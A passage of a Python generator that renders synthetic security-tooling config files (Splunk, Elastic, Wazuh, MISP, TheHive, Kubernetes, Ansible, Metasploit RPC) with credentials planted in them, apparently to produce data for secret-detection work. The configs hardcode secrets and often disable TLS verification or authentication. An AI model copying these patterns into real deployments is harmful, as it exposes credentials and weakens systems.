        L = ["FROM ubuntu:22.04", "RUN apt-get update && apt-get install -y curl ca-certificates && rm -rf /var/lib/apt/lists/*",
             "ARG FLEET_URL=https://fleet.%s.internal:8412" % c.corp] + val_lines + [
            "COPY fleet-osquery_amd64.deb /tmp/", "RUN dpkg -i /tmp/fleet-osquery_amd64.deb",
            'CMD ["/opt/orbit/bin/orbit/orbit", "--fleet-url", "${FLEET_URL}", "--enroll-secret", "${%s}"]' % var]
        return "lab/osquery-agent/Dockerfile", "dockerfile", L
    L = ["FROM python:3.%d-slim" % r.rint(10, 12), "WORKDIR /app",
         "RUN pip install --no-cache-dir requests %s" % r.choice(["pymisp", "vt-py", "shodan", "pandas", "stix2"]),
         "COPY requirements.txt .", "RUN pip install --no-cache-dir -r requirements.txt", "COPY . ."] + val_lines + [
        "ENV PYTHONUNBUFFERED=1", "USER 1000", 'CMD ["python", "-m", "enricher", "--loop", "%d"]' % r.choice([60, 300])]
    return r.choice(["Dockerfile", "docker/enricher/Dockerfile", "worker/Dockerfile"]), "dockerfile", L


def r_compose(c):
    r, sp = c.r, c.sp
    prov = sp["prov"]
    var = c.n("UP")
    if c.generic and prov in ("splunk", "elastic", "velociraptor", "wazuh", "opencti"):
        var = c.envname  # the image defines the variable name
    img = {"splunk": "splunk/splunk:9.%d" % r.rint(0, 3), "elastic": "docker.elastic.co/elasticsearch/elasticsearch:8.%d.%d" % (r.rint(10, 15), r.rint(0, 3)),
           "velociraptor": "wlambert/velociraptor:latest", "wazuh": "wazuh/wazuh-manager:4.8.1",
           "opencti": "opencti/platform:6.%d.%d" % (r.rint(0, 4), r.rint(0, 9)), "metasploit": "metasploitframework/metasploit-framework:latest",
           "maxmind": "ghcr.io/maxmind/geoipupdate:v7.0"}.get(prov, "ghcr.io/%s/soc-enricher:%s" % (c.corp, r.choice(["latest", "1.4.2", "main"])))
    svc = {"splunk": "splunk", "elastic": "es01", "velociraptor": "velociraptor", "wazuh": "wazuh.manager",
           "opencti": "opencti", "metasploit": "msf", "maxmind": "geoipupdate"}.get(prov, "enricher")
    L = ["# SIEM lab - docker compose up -d", "services:", "  %s:" % svc, "    image: %s" % img,
         "    restart: unless-stopped"]
    if prov == "splunk":
        L += ["    ports:", '      - "8000:8000"', '      - "8088:8088"', "    environment:",
              "      SPLUNK_START_ARGS: --accept-license",
              "      %s: %s" % ("SPLUNK_PASSWORD" if sp["kind"] == "password" else var, c.E("compose"))]
        if sp["kind"] == "hec_token":
            L[-1] = "      SPLUNK_HEC_TOKEN: %s" % c.E("compose")
    elif prov == "metasploit":
        L += ["    command: ./msfrpcd -f -P %s -U msf -a 0.0.0.0 -p 55553" % c.bare(),
              "    ports:", '      - "127.0.0.1:55553:55553"']
    else:
        L += ["    environment:"]
        if prov == "opencti":
            L += ["      - APP__PORT=8080", "      - APP__BASE_URL=https://opencti.%s.internal" % c.corp,
                  "      - APP__ADMIN__EMAIL=admin@%s.com" % c.corp]
        if c.idval:
            L.append("      - %s=%s" % (sp.get("idenv", "CLIENT_ID"), c.idval))
        if sp["role"] == "password" and prov not in ("elastic", "velociraptor", "wazuh"):
            L.append("      - USERNAME=%s" % c.user)
        if prov == "velociraptor":
            L.append("      - VELOX_USER=admin")
        e = c.E("compose")
        L.append("      - %s=%s" % (var, e[1:-1] if e.startswith('"') else e))
        L += ["      - LOG_LEVEL=%s" % r.choice(["info", "debug"])]
    L += ["    volumes:", "      - ./data/%s:/data" % svc.split(".")[0], "    networks: [soc]", "",
          "networks:", "  soc:", "    driver: bridge"]
    return r.choice(["docker-compose.yml", "lab/docker-compose.yml", "compose.yaml"]), "docker-compose", L


def r_compose_logdriver(c):
    r = c.r
    L = ["services:", "  honeypot:", "    image: cowrie/cowrie:latest", "    ports:", '      - "2222:2222"',
         "    logging:", "      driver: splunk", "      options:",
         "        splunk-url: https://hec.%s.internal:8088" % c.corp,
         "        splunk-token: %s" % c.E("compose"), "        splunk-index: honeypot",
         "        splunk-sourcetype: cowrie", "        splunk-insecureskipverify: \"true\"",
         "        splunk-format: json"]
    return "honeypot/docker-compose.yml", "docker-compose", L


def r_ansible(c):
    r, sp = c.r, c.sp
    prov = sp["prov"]
    key = c.n("low") if not c.generic else r.choice(["api_key", "token", "secret", "password"])
    if prov == "wazuh" and sp["kind"] == "authd_password":
        key = "wazuh_agent_authd_password" if not c.generic else "authd_pass"
    if prov == "cobaltstrike":
        key = "teamserver_password" if not c.generic else "ts_pass"
    v = c.E("ansible")
    if r.chance(0.5):
        grp = r.choice(["sensors", "siem", "soc_tools", "all"])
        L = ["---", "# group_vars/%s.yml - managed by the SOC platform team" % grp,
             "ansible_user: %s" % r.choice(["ansible", "deploy", "ubuntu"]),
             "ntp_servers: [ntp1.%s.internal, ntp2.%s.internal]" % (c.corp, c.corp),
             "siem_endpoint: %s.%s.internal" % (r.choice(["siem", "wazuh", "splunk-hf", "logstash"]), c.corp)]
        if c.idval:
            L.append("%s_id: \"%s\"" % (prov.split("_")[0], c.idval))
        L.append("%s: %s" % (key, v))
        L += ["log_retention_days: %d" % r.choice([30, 90, 180]), "zeek_interfaces: [%s]" % r.choice(["eth1", "ens192", "enp3s0"])]
        return "ansible/group_vars/%s.yml" % grp, "ansible", L
    L = ["---", "- name: Configure %s on %s" % (prov, r.choice(["sensors", "SIEM nodes", "jump hosts"])),
         "  hosts: %s" % r.choice(["sensors", "siem", "soc_tools", "redteam_infra"]), "  become: true", "  vars:"]
    if c.idval:
        L.append("    %s_id: \"%s\"" % (prov.split("_")[0], c.idval))
    L.append("    %s: %s" % (key, v))
    L += ["  tasks:", "    - name: Render config", "      ansible.builtin.template:",
          "        src: templates/%s.conf.j2" % prov.split("_")[0],
          "        dest: /etc/%s/%s.conf" % (prov.split("_")[0], prov.split("_")[0]), "        mode: \"0640\"",
          "      notify: restart %s" % prov.split("_")[0], "", "  handlers:",
          "    - name: restart %s" % prov.split("_")[0], "      ansible.builtin.service:",
          "        name: %s" % prov.split("_")[0], "        state: restarted"]
    return "ansible/playbooks/%s.yml" % prov.split("_")[0], "ansible", L


def r_k8s(c):
    r, sp = c.r, c.sp
    key = c.n("kebab") if r.chance(0.5) else c.n("UP")
    L = ["apiVersion: v1", "kind: Secret", "metadata:",
         "  name: %s-credentials" % r.choice(["enricher", "soar-worker", sp["prov"].replace("_", "-")]),
         "  namespace: %s" % r.choice(["secops", "soc", "siem"]), "  labels:",
         "    app.kubernetes.io/part-of: soc-automation", "type: Opaque", "stringData:"]
    if c.idval:
        L.append("  client-id: \"%s\"" % c.idval)
    v = c.E("k8s") if c.v.kind != "env" else quote("k8s", "<%s>" % c.v.text, 1)
    L.append("  %s: %s" % (key, v))
    return "k8s/%s" % r.choice(["secret.yaml", "enricher-secret.yaml", "manifests/creds.yaml"]), "kubernetes-yaml", L


def r_md(c):
    r, sp = c.r, c.sp
    var = c.n("UP")
    prov = sp["prov"]
    L = ["# %s" % r.choice(["Enrichment worker", "SOC lab notes", "Threat hunting toolkit", "IR quick start"]), "",
         r.choice(["Notes for the on-call rotation. Keep this short.", "How we run the lookups during triage.",
                   "Setup steps for the new analyst VM."]), "", "## Setup", "", "```bash",
         "git clone git@github.com:%s/soc-tools.git && cd soc-tools" % c.corp, "pip install -r requirements.txt"]
    if c.v.kind == "lit":
        L.append("export %s=%s" % (var, quote("sh", c.v.text, c.v.style)))
    else:
        L.append("export %s=%s" % (var, "'%s'" % c.bare() if c.v.kind == "env" else c.v.text))
    if c.idval:
        L.append("export %s=%s" % (sp.get("idenv", "CLIENT_ID"), c.idval))
    L += ["python -m enricher --input iocs.txt", "```", "", "## Notes", "",
          "- rate limit: %s" % r.choice(["4 req/min on the free tier", "1000/day", "ask the vendor before bulk runs"]),
          "- results land in `out/` as JSONL, import into Timesketch if needed",
          "- last validated %s by @%s" % (today(r), r.choice(ANALYSTS))]
    return r.choice(["README.md", "docs/setup.md", "notes/%s.md" % prov]), "markdown", L


def r_csv(c):
    r, sp = c.r, c.sp
    rows = [("urlhaus", "https://urlhaus-api.abuse.ch/v1/", "", "public feed"),
            ("crtsh", "https://crt.sh/", "", "no auth"),
            ("circl-pdns", "https://www.circl.lu/pdns/query", "", "basic auth via vault")]
    r.shuffle(rows)
    k = r.rint(0, len(rows))
    mine = (sp["prov"], (c.url.split("{")[0] or "https://%s.example" % sp["prov"]).rstrip("/?"), c.bare(),
            r.choice(["owner: %s" % r.choice(ANALYSTS), "prod", "lab key"]))
    rows.insert(k, mine)
    L = ["source,endpoint,api_key,notes"] + [",".join(x) for x in rows]
    L += ["%s,%s,,%s" % (r.choice(["spamhaus-drop", "feodo", "tor-exits"]), "https://feeds.example.net/%s.txt" % r.hex(6), "public")]
    return r.choice(["enrichment_sources.csv", "config/sources.csv"]), "csv", L


def r_soar_yaml(c):
    r, sp = c.r, c.sp
    name = c.n("low") if not c.generic else r.choice(["api_key", "token", "auth"])
    L = ["# Shuffle/StackStorm-style playbook export", "name: %s" % r.choice(["phishing-triage", "ioc-enrichment", "edr-alert-intake", "ticket-sync"]),
         "description: %s" % r.choice(["Enrich observables and open a case", "Triage alerts from the SIEM"]),
         "version: %d" % r.rint(1, 12), "trigger:", "  type: webhook", "  path: /hooks/%s" % r.choice(["siem", "edr", "mail"]),
         "", "inputs:", "  - observable", "", "steps:", "  - id: enrich", "    action: http.request", "    with:",
         "      method: %s" % sp.get("method", "get").upper(),
         "      url: %s" % (c.url.replace("{sha256}", "{{ inputs.observable }}").replace("{ip}", "{{ inputs.observable }}")
                            .replace("{domain}", "{{ inputs.observable }}").replace("{email}", "{{ inputs.observable }}")
                            .replace("{urlq}", "{{ inputs.observable }}") or "https://api.example.internal/")]
    if sp["role"] in ("header",):
        L += ["      headers:", "        %s: %s" % (sp["hdr"], c.E("soar_yaml") if not sp.get("scheme") else
                                                   (quote("soar_yaml", sp["scheme"] + c.v.text, 1) if c.v.kind == "lit"
                                                    else '"%s%s"' % (sp["scheme"], c.E("soar_yaml").strip('"'))))]
    elif sp["role"] == "basic":
        L += ["      auth:", "        username: %s" % c.user, "        password: %s" % c.E("soar_yaml")]
    elif sp["role"] == "url":
        L[-1] = "      url: %s" % c.E("soar_yaml")
        L += ["      body:", "        text: \"New case {{ case.id }}: {{ inputs.observable }}\""]
    else:
        L += ["      body:", "        %s: %s" % (name, c.E("soar_yaml"))]
    L += ["  - id: decide", "    action: core.condition", "    when: \"{{ steps.enrich.status == 200 }}\"",
          "  - id: open_case", "    action: thehive.create_case", "    with:", "      title: \"Auto: {{ inputs.observable }}\"",
          "      severity: %d" % r.rint(1, 3), "      tags: [auto, %s]" % sp["prov"]]
    return "playbooks/%s.yaml" % r.choice(["enrich", "triage", "intake", "sync"]), "soar-yaml", L


def r_soar_json(c):
    r, sp = c.r, c.sp
    agent = {"type": "Agents::HTTPRequestAgent", "name": "%s lookup" % sp["prov"].replace("_", " ").title(),
             "disabled": False, "guid": r.hex(32), "options": {}}
    u = c.url.split("{")[0] + "<<receive_alert.body.observable>>" if _ioc_kind(c.url) else c.url
    opts = {"url": u, "method": sp.get("method", "get"),
            "content_type": "json"}
    if sp["role"] == "url":
        opts["url"] = "\x00V\x00"
        opts["payload"] = {"text": "<<receive_alert.body.title>>"}
    elif sp["role"] == "basic":
        opts["basic_auth"] = ["%s" % c.user, "\x00V\x00"]
    elif sp["role"] == "header":
        opts["headers"] = {sp["hdr"]: ("%s\x00V\x00" % sp.get("scheme", ""))}
    else:
        opts["payload"] = {c.ckey: "\x00V\x00"}
    agent["options"] = opts
    story = {"schema_version": r.rint(4, 20), "standard_lib_version": r.rint(10, 60), "name": "%s triage" % r.choice(["Phishing", "EDR", "Cloud"]),
             "description": "exported story", "guid": r.hex(32), "slug": "triage_%s" % r.hex(4),
             "agents": [{"type": "Agents::WebhookAgent", "name": "Receive alert", "disabled": False,
                         "guid": r.hex(32), "options": {"path": r.hex(32), "secret": "<<CREDENTIAL.webhook_path_secret>>",
                                                        "verbs": "post"}}, agent],
             "links": [{"source": 0, "receiver": 1}]}
    text = json.dumps(story, indent=2)
    e = c.E("soar_json")
    inner = e[1:-1] if e.startswith('"') else e
    text = text.replace("\x00V\x00", inner).replace("\\u0000V\\u0000", inner)
    return "stories/%s.json" % r.choice(["phishing_triage", "edr_intake", "ioc_enrich"]), "soar-json", text.split("\n")


def r_gha(c):
    r, sp = c.r, c.sp
    prov = sp["prov"]
    var = c.envname
    e = c.E("gha")
    L = ["name: %s" % {"snyk": "snyk", "semgrep": "semgrep", "gitguardian": "ggshield"}.get(prov, "detections-ci"),
         "on:", "  push:", "    branches: [main]", "  pull_request:", "", "jobs:"]
    if prov == "snyk":
        L += ["  snyk:", "    runs-on: ubuntu-latest", "    steps:", "      - uses: actions/checkout@v4",
              "      - uses: snyk/actions/python-3.10@master", "        continue-on-error: true", "        env:",
              "          SNYK_TOKEN: %s" % e, "        with:", "          args: --severity-threshold=high"]
    elif prov == "semgrep":
        L += ["  semgrep:", "    runs-on: ubuntu-latest", "    container:", "      image: semgrep/semgrep",
              "    env:", "      SEMGREP_APP_TOKEN: %s" % e, "    steps:", "      - uses: actions/checkout@v4",
              "      - run: semgrep ci"]
    elif prov == "gitguardian":
        L += ["  scanning:", "    runs-on: ubuntu-latest", "    steps:", "      - uses: actions/checkout@v4",
              "        with:", "          fetch-depth: 0", "      - name: GitGuardian scan",
              "        uses: GitGuardian/ggshield-action@v1", "        env:",
              "          GITHUB_PUSH_BEFORE_SHA: ${{ github.event.before }}",
              "          GITHUB_PUSH_BASE_SHA: ${{ github.event.base }}",
              "          GITHUB_DEFAULT_BRANCH: ${{ github.event.repository.default_branch }}",
              "          GITGUARDIAN_API_KEY: %s" % e]
    else:
        L += ["  validate:", "    runs-on: ubuntu-latest", "    env:"]
        if c.idval:
            L.append("      %s: %s" % (sp.get("idenv", "CLIENT_ID"), c.idval))
        L += ["      %s: %s" % (var, e), "    steps:", "      - uses: actions/checkout@v4",
              "      - uses: actions/setup-python@v5", "        with:", "          python-version: '3.11'"]
        if prov in ("splunk", "elastic", "github"):
            L += ["      - run: pip install sigma-cli pySigma-backend-%s" % ("elasticsearch" if prov == "elastic" else "splunk"),
                  "      - run: sigma check rules/", "      - run: python tools/deploy_rules.py --dry-run"]
        else:
            L += ["      - run: pip install -r requirements.txt",
                  "      - run: python tools/%s_sync.py --since 24h --out artifacts/" % prov.split("_")[0],
                  "      - uses: actions/upload-artifact@v4", "        with:", "          name: %s-results" % prov.split("_")[0],
                  "          path: artifacts/"]
    return ".github/workflows/%s.yml" % r.choice(["security", "ci", prov.split("_")[0]]), "github-actions", L


def r_ossec(c):
    r, sp = c.r, c.sp
    prov = sp["prov"]
    name = {"virustotal": "virustotal", "slack": "slack", "pagerduty": "pagerduty"}.get(prov, "custom-%s" % prov)
    L = ["<!-- ossec.conf (manager) - integrations section -->", "<ossec_config>", "  <global>",
         "    <jsonout_output>yes</jsonout_output>", "    <alerts_log>yes</alerts_log>",
         "    <email_notification>no</email_notification>", "  </global>", "", "  <integration>",
         "    <name>%s</name>" % name]
    if sp["role"] == "url":
        L.append("    <hook_url>%s</hook_url>" % c.bare())
        L.append("    <level>%d</level>" % r.choice([10, 12]))
        L.append("    <alert_format>json</alert_format>")
    else:
        L.append("    <api_key>%s</api_key>" % c.bare())
        if prov == "virustotal":
            L.append("    <group>syscheck</group>")
        else:
            L.append("    <level>%d</level>" % r.choice([10, 12, 13]))
        L.append("    <alert_format>json</alert_format>")
    L += ["  </integration>", "", "  <syscheck>", "    <frequency>43200</frequency>",
          '    <directories realtime="yes" check_all="yes">/etc,/usr/bin,/usr/sbin</directories>',
          "  </syscheck>", "</ossec_config>"]
    return r.choice(["wazuh/config/ossec.conf", "config/wazuh_cluster/wazuh_manager.conf", "ossec.conf"]), "wazuh-ossec-conf", L


def r_logstash(c):
    r, sp = c.r, c.sp
    prov = sp["prov"]
    L = ["# pipeline: %s" % r.choice(["edr -> elastic", "ti feed poller", "sensor logs"]), "input {"]
    if prov in ("virustotal", "abuseipdb", "ipinfo"):
        hdr = {"virustotal": "x-apikey", "abuseipdb": "Key", "ipinfo": "Authorization"}[prov]
        val = c.E("logstash") if prov != "ipinfo" else (
            quote("logstash", "Bearer " + c.v.text) if c.v.kind == "lit" else '"Bearer %s"' % c.E("logstash").strip('"'))
        L += ["  http_poller {", "    urls => {", "      feed => {", '        method => get',
              '        url => "%s"' % c.url.split("{")[0],
              "        headers => {", '          "%s" => %s' % (hdr, val), "        }", "      }", "    }",
              '    schedule => { every => "1h" }', '    codec => "json"', "  }", "}", "",
              "output {", "  elasticsearch {", '    hosts => ["https://es01.%s.internal:9200"]' % c.corp,
              '    index => "ti-%s-%%{+YYYY.MM.dd}"' % prov, '    user => "logstash_writer"',
              '    password => "${LS_WRITER_PW}"', "  }", "}"]
        return "logstash/pipeline/ti_%s.conf" % prov, "logstash-conf", L
    L += ["  beats {", "    port => 5044", "  }", "}", "", "filter {", "  if [event][module] == \"sysmon\" {",
          "    mutate { add_tag => [\"edr\"] }", "  }", "}", "", "output {"]
    if prov == "splunk":
        L += ["  http {", '    url => "https://hec.%s.internal:8088/services/collector/event"' % c.corp,
              '    http_method => "post"', '    format => "json"', "    headers => {",
              '      "Authorization" => %s' % (quote("logstash", "Splunk " + c.v.text) if c.v.kind == "lit"
                                             else '"Splunk %s"' % c.E("logstash").strip('"')), "    }", "  }"]
    elif prov == "microsoft_sentinel":
        L += ["  microsoft-logstash-output-azure-loganalytics {", '    workspace_id => "%s"' % c.idval,
              "    workspace_key => %s" % c.E("logstash"), '    custom_log_table_name => "SensorLogs"', "  }"]
    elif sp["kind"] == "api_key_id_secret":
        L += ["  elasticsearch {", '    hosts => ["https://es01.%s.internal:9200"]' % c.corp,
              "    ssl_enabled => true", "    api_key => %s" % c.E("logstash"),
              '    data_stream => "true"', "  }"]
    else:  # elastic password
        L += ["  elasticsearch {", '    hosts => ["https://es01.%s.internal:9200"]' % c.corp,
              '    user => "%s"' % r.choice(["elastic", "logstash_internal"]),
              "    password => %s" % c.E("logstash"), '    index => "edr-%{+YYYY.MM.dd}"', "  }"]
    L.append("}")
    return "logstash/pipeline/%s.conf" % r.choice(["main", "edr", "sensors"]), "logstash-conf", L


def r_filebeat(c):
    r = c.r
    L = ["filebeat.inputs:", "  - type: filestream", "    id: suricata-eve", "    paths:",
         "      - /var/log/suricata/eve.json", "    parsers:", "      - ndjson:", "          target: \"\"", "",
         "processors:", "  - add_host_metadata: ~", "", "output.elasticsearch:",
         '  hosts: ["https://es01.%s.internal:9200"]' % c.corp, "  api_key: %s" % c.E("yaml"),
         '  ssl.certificate_authorities: ["/etc/filebeat/ca.crt"]']
    return "sensors/filebeat/filebeat.yml", "elastic-yml", L


def r_elastic_yml(c):
    r, sp = c.r, c.sp
    if sp["kind"] == "api_key_id_secret":
        L = ["# kibana.yml", "server.host: 0.0.0.0", "server.publicBaseUrl: https://kibana.%s.internal" % c.corp,
             'elasticsearch.hosts: ["https://es01.%s.internal:9200"]' % c.corp,
             "monitoring.ui.ccs.enabled: false", "xpack.fleet.agents.enabled: true",
             "xpack.reporting.roles.enabled: false", "# cross-cluster monitoring shipper",
             "monitoring.ui.elasticsearch.api_key: %s" % c.E("yaml")]
        return "elastic/kibana/kibana.yml", "elastic-yml", L
    L = ["# kibana.yml", "server.host: 0.0.0.0", "server.name: kibana-%s" % r.choice(["soc", "lab", "01"]),
         'elasticsearch.hosts: ["https://es01.%s.internal:9200"]' % c.corp,
         "elasticsearch.username: %s" % r.choice(["kibana_system", "kibana"]),
         "elasticsearch.password: %s" % c.E("yaml"),
         "elasticsearch.ssl.certificateAuthorities: [/etc/kibana/certs/ca.crt]",
         "xpack.encryptedSavedObjects.encryptionKey: ${KBN_ESO_KEY}",
         "xpack.security.session.idleTimeout: 1h", "logging.root.level: info"]
    return r.choice(["elastic/kibana/kibana.yml", "config/kibana.yml"]), "elastic-yml", L


def r_splunk_inputs(c):
    r = c.r
    idx = r.choice(["edr", "sysmon", "suricata", "zeek", "honeypot"])
    L = ["# $SPLUNK_HOME/etc/apps/soc_inputs/local/inputs.conf", "[http]", "disabled = 0", "enableSSL = 1",
         "port = 8088", "", "[http://%s_hec]" % idx, "disabled = 0", "index = %s" % idx,
         "indexes = %s,main" % idx, "sourcetype = %s" % r.choice(["_json", "suricata:eve", "cowrie", "zeek:json"]),
         "token = %s" % c.bare(), "useACK = %d" % r.choice([0, 1]), "",
         "[monitor:///var/log/%s/*.log]" % idx, "index = %s" % idx, "disabled = false"]
    return "splunk/apps/soc_inputs/local/inputs.conf", "splunk-inputs-conf", L


def r_splunk_outputs(c):
    r = c.r
    L = ["# outputs.conf on the heavy forwarder - ship via HTTP out", "[httpout]",
         "httpEventCollectorToken = %s" % c.bare(), "uri = https://hec.%s.internal:8088" % c.corp,
         "batchSize = 65536", "batchTimeout = 30", "", "[tcpout]", "defaultGroup = none",
         "indexAndForward = false"]
    return "splunk/apps/hf_outputs/local/outputs.conf", "splunk-outputs-conf", L


def r_splunk_server(c):
    r = c.r
    L = ["# server.conf - indexer cluster peer", "[general]", "serverName = idx%02d" % r.rint(1, 12),
         "pass4SymmKey = %s" % c.bare(), "", "[clustering]", "mode = peer",
         "manager_uri = https://cm01.%s.internal:8089" % c.corp, "pass4SymmKey = %s" % splunk_enc(r), "",
         "[replication_port://9887]", "", "[sslConfig]",
         "sslRootCAPath = $SPLUNK_HOME/etc/auth/%s/ca.pem" % c.corp]
    return "splunk/etc/system/local/server.conf", "splunk-server-conf", L


def r_splunk_auth(c):
    r = c.r
    L = ["# authentication.conf - LDAP to corp AD", "[authentication]", "authType = LDAP",
         "authSettings = corp_ad", "", "[corp_ad]", "host = dc01.%s.local" % c.corp, "port = 636", "SSLEnabled = 1",
         "bindDN = CN=svc_splunk,OU=Service Accounts,DC=%s,DC=local" % c.corp,
         "bindDNpassword = %s" % c.bare(), "userBaseDN = OU=Users,DC=%s,DC=local" % c.corp,
         "groupBaseDN = OU=Groups,DC=%s,DC=local" % c.corp, "userNameAttribute = sAMAccountName",
         "realNameAttribute = displayName", "groupMemberAttribute = member", "", "[roleMap_corp_ad]",
         "admin = SOC-Splunk-Admins", "user = SOC-Analysts"]
    return "splunk/etc/system/local/authentication.conf", "splunk-authentication-conf", L


def r_hocon(c):
    r, sp = c.r, c.sp
    e = c.E("hocon")
    if sp["prov"] == "misp":
        blk = ["misp {", "  interval: 1 hour", "  servers: [", "    {", '      name = "%s-MISP"' % c.corp.upper(),
               '      url = "https://misp.%s.internal/"' % c.corp, "      auth {", "        type = key",
               "        key = %s" % e, "      }", "      wsConfig.ssl.loose.acceptAnyCertificate: true",
               "      tags = [\"misp\"]", "    }", "  ]", "}"]
    else:
        blk = ["cortex {", "  servers = [", "    {", '      name = "local"',
               '      url = "https://cortex.%s.internal:9001"' % c.corp, "      auth {",
               '        type = "bearer"', "        key = %s" % e, "      }", "    }", "  ]", "}"]
    L = ["# TheHive application.conf", 'play.http.secret.key = ${?PLAY_SECRET}', "",
         "db.janusgraph {", "  storage {", "    backend = cql",
         '    hostname = ["cassandra.%s.internal"]' % c.corp, "  }", "}", "",
         "storage {", "  provider = s3", '  s3.bucket = "thehive"', "}", "",
         "scalligraph.modules += org.thp.thehive.connector.%s.%sModule" % (
             "misp" if sp["prov"] == "misp" else "cortex", "Misp" if sp["prov"] == "misp" else "Cortex"), ""] + blk
    return r.choice(["thehive/conf/application.conf", "docker/thehive/application.conf"]), "hocon", L


def r_php(c):
    r = c.r
    L = ["<?php", "$config = array(", "  'debug' => 0,", "  'MISP' => array(",
         "    'baseurl' => 'https://misp.%s.internal'," % c.corp, "    'org' => '%s-CERT'," % c.corp.upper(),
         "    'email' => 'misp@%s.com'," % c.corp, "    'background_jobs' => true,", "  ),",
         "  'Security' => array(", "    'level' => 'medium',",
         "    'salt' => %s," % c.E("php"), "    'cipherSeed' => '',",
         "    'auth_enforced' => false,", "  ),", "  'GnuPG' => array(", "    'onlyencrypted' => false,",
         "    'email' => 'misp@%s.com'," % c.corp, "    'homedir' => '/var/www/MISP/.gnupg',", "  ),", ");"]
    return "misp/app/Config/config.php", "php", L


def r_php_email(c):
    r = c.r
    L = ["<?php", "class EmailConfig {", "    public $default = array(", "        'transport' => 'Smtp',",
         "        'from' => array('misp-alerts@%s.com' => 'MISP %s')," % (c.corp, c.corp.upper()),
         "        'host' => 'smtp.%s.com'," % c.corp, "        'port' => 587,", "        'timeout' => 30,",
         "        'username' => 'misp-alerts@%s.com'," % c.corp, "        'password' => %s," % c.E("php"),
         "        'tls' => true,", "        'client' => null,", "        'log' => false,", "    );", "}"]
    return "misp/app/Config/email.php", "php", L


def r_elastalert(c):
    r, sp = c.r, c.sp
    prov = sp["prov"]
    fam = r.choice(FAMILIES)
    L = ["name: %s %s" % (fam, r.choice(["beacon to known C2", "loader child process", "LSASS access"])),
         "type: %s" % r.choice(["any", "frequency"]), "index: %s" % r.choice(["logs-endpoint.*", "edr-*", "sysmon-*"]),
         "num_events: %d" % r.choice([1, 3, 5]), "timeframe:", "  minutes: %d" % r.choice([5, 15]), "",
         "filter:", "- query:", "    query_string:",
         "      query: 'process.name:(\"rundll32.exe\" OR \"regsvr32.exe\") AND destination.port:443'", ""]
    if prov == "elastic":
        L = ["# elastalert config.yaml", "rules_folder: rules", "run_every:", "  minutes: 1", "buffer_time:",
             "  minutes: 15", "es_host: es01.%s.internal" % c.corp, "es_port: 9200", "use_ssl: true",
             "verify_certs: false", "es_username: elastalert", "es_password: %s" % c.E("elastalert"),
             "writeback_index: elastalert_status", "alert_time_limit:", "  days: 2"]
        return "elastalert/config.yaml", "elastalert-yaml", L
    if prov == "slack":
        if sp["kind"] == "bot_token":
            L += ["alert:", "- slack", "slack_webhook_url: https://slack.com/api/chat.postMessage",
                  "slack_api_token: %s" % c.E("elastalert"), "slack_channel_override: \"#soc-alerts\""]
        else:
            L += ["alert:", "- slack", "slack_webhook_url: %s" % c.E("elastalert"),
                  "slack_username_override: ElastAlert", "slack_msg_color: danger"]
    elif prov == "microsoft_teams":
        L += ["alert:", "- ms_teams", "ms_teams_webhook_url: %s" % c.E("elastalert"), "ms_teams_alert_summary: SOC alert"]
    elif prov == "pagerduty":
        L += ["alert:", "- pagerduty", "pagerduty_service_key: %s" % c.E("elastalert"),
              "pagerduty_client_name: ElastAlert", "pagerduty_api_version: v2", "pagerduty_v2_payload_severity: critical"]
    elif prov == "opsgenie":
        L += ["alert:", "- opsgenie", "opsgenie_key: %s" % c.E("elastalert"), "opsgenie_priority: P2",
              "opsgenie_teams: [soc-l2]"]
    elif prov == "telegram":
        L += ["alert:", "- telegram", "telegram_bot_token: %s" % c.E("elastalert"),
              "telegram_room_id: \"-100%s\"" % r.digits(10)]
    elif prov == "tines":
        L += ["alert:", "- post2", "http_post2_url: %s" % c.E("elastalert"), "http_post2_payload:",
              "  rule: \"{{ rule.name }}\"", "  host: \"{{ host.name }}\""]
    L += ["", "alert_text: \"%s detected on {0}\"" % fam, "alert_text_args: [host.name]"]
    return "elastalert/rules/%s.yaml" % fam.lower(), "elastalert-yaml", L


def r_elastalert_smtp(c):
    r = c.r
    if r.chance(0.5):
        L = ["# smtp_auth_file.yaml referenced by rules (smtp_auth_file: /opt/elastalert/smtp_auth.yaml)",
             "user: soc-alerts@%s.com" % c.corp, "password: %s" % c.E("elastalert")]
        L = L[:1] + ["# owner: %s, rotated %s" % (r.choice(ANALYSTS), today(r))] + L[1:] + ["", "# host/port live in each rule"]
        return "elastalert/smtp_auth.yaml", "elastalert-yaml", L
    L = ["name: Suspicious mailbox rule", "type: any", "index: o365-*", "filter:",
         "- term:", "    event.action: New-InboxRule", "alert:", "- email",
         "email: [\"soc@%s.com\"]" % c.corp, "smtp_host: smtp.%s.com" % c.corp, "smtp_port: 587",
         "smtp_ssl: false", "from_addr: soc-alerts@%s.com" % c.corp, "smtp_auth_user: soc-alerts@%s.com" % c.corp,
         "smtp_auth_password: %s" % c.E("elastalert")]
    return "elastalert/rules/o365_inbox_rule.yaml", "elastalert-yaml", L


def r_wazuh_yml(c):
    r = c.r
    L = ["# wazuh dashboard plugin config: /usr/share/wazuh-dashboard/data/wazuh/config/wazuh.yml",
         "pattern: wazuh-alerts-*", "timeout: 20000", "hosts:", "  - default:",
         "      url: https://wazuh.%s.internal" % c.corp, "      port: 55000", "      username: %s" % c.user,
         "      password: %s" % c.E("yaml"), "      run_as: false"]
    return "wazuh/dashboard/wazuh.yml", "yaml", L


def r_pulledpork(c):
    r = c.r
    L = ["# pulledpork.conf", "rule_url=https://www.snort.org/reg-rules/|snortrules-snapshot.tar.gz|%s" % c.bare(),
         "rule_url=https://snort.org/downloads/ip-block-list|IPBLOCKLIST|open",
         "ignore=deleted.rules,experimental.rules,local.rules", "temp_path=/tmp",
         "rule_path=/etc/snort/rules/snort.rules", "local_rules=/etc/snort/rules/local.rules",
         "sid_msg=/etc/snort/sid-msg.map", "sid_msg_version=1", "sid_changelog=/var/log/sid_changes.log",
         "snort_path=/usr/local/bin/snort", "version=0.7.4"]
    return "sensors/snort/pulledpork.conf", "conf", L


def r_geoip_conf(c):
    r = c.r
    L = ["# GeoIP.conf for geoipupdate - used by Zeek/Suricata enrichment",
         "AccountID %s" % r.digits(6), "LicenseKey %s" % c.bare(),
         "EditionIDs GeoLite2-ASN GeoLite2-City GeoLite2-Country", "DatabaseDirectory /usr/share/GeoIP",
         "LockFile /usr/share/GeoIP/.geoipupdate.lock", "# Proxy proxy.%s.internal:3128" % c.corp]
    return "sensors/GeoIP.conf", "conf", L


RENDERERS = {
    "py": r_py, "sdk": r_sdk, "ipynb": r_ipynb, "keys_py": r_keys_py, "msf_py": r_msf_py,
